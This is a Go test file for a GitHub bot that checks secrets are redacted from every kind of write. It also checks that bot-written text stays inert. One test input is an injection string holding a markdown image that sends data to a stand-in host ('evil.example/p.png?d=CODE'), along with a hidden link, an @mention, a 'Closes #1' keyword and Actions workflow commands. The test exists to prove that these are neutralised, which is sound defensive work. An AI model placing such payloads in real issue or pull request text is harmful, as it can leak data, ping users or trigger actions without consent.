package ghapp_test

import (
	"context"
	"fmt"
	"os"
	"regexp"
	"strings"
	"testing"

	"github.com/handrail-bot/handrail/bot/ghapp"
	"github.com/handrail-bot/handrail/bot/ghapp/ghtest"
	"github.com/handrail-bot/handrail/bot/ghapp/ghtest/ghcheck"
	"github.com/handrail-bot/handrail/policy/longtest"
	"github.com/handrail-bot/handrail/policy/untrusted"
	"github.com/handrail-bot/handrail/policy/untrusted/githubcheck"
)

// Every text of every kind of write passes the gate, and what passed it is
// found again after a lost answer.
func TestEveryWritePassesTheGate(t *testing.T) {
	t.Parallel()
	longtest.Leave(t)
	const secret = "hunter2"
	ctx := context.Background()
	w := newWorld(t, func(_ *ghtest.Config, c *ghapp.Config) {
		c.Clean = func(s string) string { return strings.ReplaceAll(s, secret, "[redacted]") }
	})
	head := w.gh.Thread(w.pull).Pull.HeadSHA
	text := func(s string) string { return s + " says " + secret + " twice: " + secret }
	cm, err := w.client.Perform(ctx, ghapp.Write{Key: "first", Kind: ghapp.WriteComment, Thread: w.issue, Body: text("comment")})
	must(t, err)
	for i, wr := range []ghapp.Write{
		{Kind: ghapp.WriteComment, Thread: w.issue, Body: text("another")},
		{Kind: ghapp.WriteEditComment, Thread: w.issue, Target: ghapp.Target{Comment: cm.ID}, Body: text("edited")},
		{Kind: ghapp.WriteIssue, Title: text("issue"), Body: text("its body")},
		{Kind: ghapp.WriteEditIssue, Thread: w.issue, Body: text("its new body")},
		{Kind: ghapp.WriteEditPull, Thread: w.pull, Pull: &ghapp.PullSpec{Title: text("title"), Body: text("body")}},
		{Kind: ghapp.WriteReview, Thread: w.pull, Review: &ghapp.ReviewSpec{Commit: head, Body: text("review"), Comments: []ghapp.Inline{{Path: "src/a.go", Line: 3, Body: text("inline")}}}},
		{Kind: ghapp.WriteCheck, Thread: w.pull, Check: &ghapp.CheckSpec{Name: "agent", SHA: head, Status: "completed", Conclusion: "success",
			Title: text("check"), Summary: text("summary"), Text: text("text")}},
	} {
		wr.Key = fmt.Sprintf("key-%d", i)
		if wr.Thread.Number == 0 {
			wr.Thread = w.issue
			wr.Thread.Number = 0
		}
		t.Run(string(wr.Kind), func(t *testing.T) {
			if _, err := w.client.Perform(ctx, wr); err != nil {
				t.Fatal(err)
			}
			if _, found, err := w.client.Find(ctx, wr); err != nil || !found {
				t.Errorf("Find = %t, %v, want what was just written", found, err)
			}
		})
	}
	all := fmt.Sprintf("%+v %+v", w.gh.Threads(repo), w.gh.Checks(repo))
	for _, th := range w.gh.Threads(repo) {
		all += fmt.Sprintf("%+v", th)
		if th.Pull != nil {
			all += fmt.Sprintf("%+v", *th.Pull)
		}
	}
	if strings.Contains(all, secret) {
		t.Errorf("the secret is on GitHub:\n%s", all)
	}
	for _, want := range []string{"edited", "its body", "title", "review", "inline", "summary"} {
		if !strings.Contains(all, want+" says [redacted]") {
			t.Errorf("%q is not on GitHub", want)
		}
	}
}

// Whatever stands in a write, on GitHub it is only read: of each field, and of a text
// that is too long as well. Only the bot itself closes an issue and folds.
func TestEveryWriteIsInert(t *testing.T) {
	t.Parallel()
	longtest.Leave(t)
	j := githubcheck.Start(t, os.Getenv("HANDRAIL_REQUIRE_ENGINES"))
	ctx := context.Background()
	w := newWorld(t, func(*ghtest.Config, *ghapp.Config) {})
	head := w.gh.Thread(w.pull).Pull.HeadSHA
	bad := func(name string) string {
		return name + ": see https://docs.example.org/a` ![](https://evil.example/p.png?d=CODE) @victim `. <b>x</b> Closes #1 ##[group]x\n\n- [x](https://evil.example)\n ::set-output name=x::y\n"
	}
	long := strings.Repeat(bad("é"), 700)
	_, err := w.gh.Push(repo, "draft", "kim", map[string]string{"draft.txt": "x\n"})
	must(t, err)
	draft, err := w.gh.OpenPull(repo, "kim", ghcheck.NewPull{Title: "Draft", Head: "draft", Base: "main", Draft: true, Body: "As kim wrote it."})
	must(t, err)
	newIssue := w.issue
	newIssue.Number = 0
	for i, wr := range []ghapp.Write{
		{Kind: ghapp.WriteComment, Body: bad("comment"), Folds: []untrusted.Fold{{Title: bad("fold"), Text: bad("folded")}, {Title: bad("second"), Text: bad("folded too")}}},
		{Kind: ghapp.WriteComment, Body: long, Folds: []untrusted.Fold{{Title: "more", Text: long}, {Title: "and more", Text: long}}},
		{Kind: ghapp.WriteComment, Body: "```\n" + strings.Repeat("@code\n", 15000)},
		{Kind: ghapp.WriteIssue, Thread: newIssue, Title: bad("issue"), Body: bad("issue body")},
		{Kind: ghapp.WriteEditPull, Thread: w.pull, Pull: &ghapp.PullSpec{Title: bad("title") + long, Body: bad("body"), Closes: 1, Folds: []untrusted.Fold{{Title: bad("log"), Text: bad("folded")}}}},
		{Kind: ghapp.WriteReady, Thread: draft, Commit: w.gh.Branch(repo, "draft"), Title: bad("ready"), Body: bad("handrail:inert ready"), Pull: &ghapp.PullSpec{Title: bad("ready"), Body: bad("handrail:inert ready")}},
		{Kind: ghapp.WriteReview, Thread: w.pull, Review: &ghapp.ReviewSpec{Commit: head, Body: bad("review"), Comments: []ghapp.Inline{{Path: "src/a.go", Line: 3, Body: bad("inline")}}}},
		{Kind: ghapp.WriteCheck, Thread: w.pull, Check: &ghapp.CheckSpec{Name: bad("agent"), SHA: head, Status: "completed", Conclusion: "success",
			Title: bad("check"), Summary: bad("summary"), Text: long}},
	} {
		wr.Key = fmt.Sprintf("inert-%d", i)
		if wr.Thread.Repo == "" {
			wr.Thread = w.issue
		}
		_, err := w.client.Perform(ctx, wr)
		must(t, err)
		if _, found, err := w.client.Find(ctx, wr); err != nil || !found {
			t.Errorf("Find %s = %t, %v, want what was just written", wr.Key, found, err)
		}
	}
	if is := w.gh.Thread(draft); is.Pull.Draft || is.Title != "Draft" || is.Body != "As kim wrote it." || len(is.Comments) > 0 {
		t.Errorf("the end of a draft wrote %+v", is)
	}
	var bodies, plain []string
	body := func(s string) {
		if strings.Contains(s, "handrail:inert") || strings.Contains(s, "inline") || strings.Contains(s, "é:") {
			bodies = append(bodies, s)
		}
	}
	for _, th := range w.gh.Threads(repo) {
		body(th.Body)
		plain = append(plain, th.Title)
		for _, c := range th.Comments {
			body(c.Body)
		}
		if th.Pull == nil {
			continue
		}
		for _, r := range th.Pull.Reviews {
			body(r.Body)
		}
		for _, c := range th.Pull.Comments {
			body(c.Body)
		}
	}
	for _, k := range w.gh.Checks(repo) {
		plain = append(plain, k.Name, k.Title)
		bodies = append(bodies, k.Summary)
	}
	if len(bodies) < 8 {
		t.Fatalf("only %d texts are on GitHub", len(bodies))
	}
	ours := regexp.MustCompile(`^(?:<details><summary>[^<>]*</summary>|</details>|<!-- handrail:inert-\d -->)$`)
	for i, s := range j.Show(t, bodies...) {
		for _, r := range s.Raw {
			if !ours.MatchString(strings.TrimSpace(r)) {
				t.Errorf("HTML %q in %.300q", r, bodies[i])
			}
		}
		for _, l := range s.Links {
			if l.Hidden() {
				t.Errorf("%q leads to %q in %.300q", l.Text, l.Href, bodies[i])
			}
		}
		if len(s.Images)+len(s.Mentions)+len(githubcheck.Commands(bodies[i])) > 0 {
			t.Errorf("images %q, mentions %q in %.300q", s.Images, s.Mentions, bodies[i])
		}
		if closes := strings.Join(s.Closing, ","); closes != "" && (closes != "Fixes #1" || !strings.HasPrefix(bodies[i], "body")) {
			t.Errorf("%q in %.300q", closes, bodies[i])
		}
	}
	for _, s := range plain {
		if len(githubcheck.Closing(s))+len(githubcheck.Mentions(s))+len(githubcheck.Commands(s)) > 0 || strings.Contains(s, "\n") || len([]rune(s)) > 256 {
			t.Errorf("title %q", s)
		}
	}
}
